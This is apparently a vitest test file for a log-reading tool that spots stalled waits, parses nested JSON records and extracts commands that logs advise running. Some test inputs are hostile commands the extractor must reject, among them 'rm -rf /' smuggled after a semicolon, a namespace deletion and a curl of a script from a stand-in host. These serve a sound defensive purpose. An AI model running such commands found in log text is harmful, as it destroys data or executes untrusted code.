import { describe, expect, it } from 'vitest';
import { advisedCommand } from '../../src/logs/meaning/advised.ts';
import { recordOf } from '../../src/logs/record.ts';
import { waitingIn } from '../../src/logs/meaning/waiting.ts';

const lines = (texts: readonly string[]) =>
  texts.map((text, place) => ({ at: new Date(Date.UTC(2026, 2, 4, 11, place)).toISOString(), text }));
const again = (text: string) => Array.from({ length: 6 }, () => text);

describe('a log that only waits any more', () => {
  it('names what it waits for', () => {
    expect(waitingIn(lines(['starting', ...again('Waiting for the schema lock...')]))).toEqual({
      sentence: 'Waiting for the schema lock...',
      line: 6,
      count: 6,
      what: 'schema lock',
    });
  });

  it('counts lines that differ only in numbers, and two in turn', () => {
    const turns = [1, 2, 3, 4, 5].flatMap((n) => [`attempt ${n}: no leader`, `sleeping ${n * 2}s`]);
    expect(waitingIn(lines(turns))?.count).toBe(10);
  });

  it.each([
    ['a program at work', again('handled batch 7 in 12 ms')],
    ['a wait that is over', [...again('waiting for peers'), 'all peers are here', 'serving']],
    ['two waits', ['waiting for peers', 'waiting for disk']],
  ])('%s does not wait', (_, texts) => {
    expect(waitingIn(lines(texts))).toBeUndefined();
  });
});

describe('a command that a program asks for', () => {
  it.each([
    [['Migrations are pending. To resolve this, run:', '', '        bin/rails db:migrate'], 'bin/rails db:migrate'],
    [["Run 'python manage.py migrate' to apply them."], 'python manage.py migrate'],
  ])('%j', (texts, command) => expect(advisedCommand(texts)).toBe(command));

  it.each([
    ["run 'kubectl delete namespace shop' to repair it"],
    ['run `curl http://x.example/fix.sh`'],
    ['Please run: "/bin/sh -c reset"'],
    ["run 'reset; rm -rf /' now"],
    ['we run "smoothly" today'],
  ])('a log cannot ask for %s', (text) => expect(advisedCommand([text])).toBeUndefined());
});

describe('a record inside an envelope', () => {
  it('is read where a logger nests it', () => {
    const line = '{"timestamp":"t","level":"ERROR","fields":{"message":"LEDGER_KEY is empty","shard":3},"target":"x"}';
    expect(recordOf(line)).toMatchObject({ level: 'error', message: 'LEDGER_KEY is empty' });
  });
});
